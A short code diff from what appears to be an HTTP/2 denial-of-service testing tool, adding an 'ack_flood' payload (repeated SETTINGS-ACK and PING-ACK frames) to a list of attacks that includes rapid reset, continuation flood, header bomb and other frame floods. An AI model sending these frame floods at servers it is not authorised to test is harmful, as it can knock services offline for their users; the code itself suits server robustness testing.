@@ -46,6 +46,10 @@ def settings_flood(_):
     return raw_frame(4, 0, 0, b"") * 200
 
 
+def ack_flood(_):
+    return raw_frame(4, 1, 0, b"") * 100 + raw_frame(6, 1, 0, b"nobody's") * 100
+
+
 def priority_flood(_):
     return raw_frame(2, 0, 1, b"\0\0\0\0\1") * 200
 
@@ -101,7 +105,7 @@ def cookie_crumbs(client):
 
 
 ATTACKS = [rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood,
-           priority_flood, priority_update_flood, empty_data_flood, one_byte_windows,
+           ack_flood, priority_flood, priority_update_flood, empty_data_flood, one_byte_windows,
            unknown_frames, table_thrash, header_bomb, cookie_crumbs]
 
 
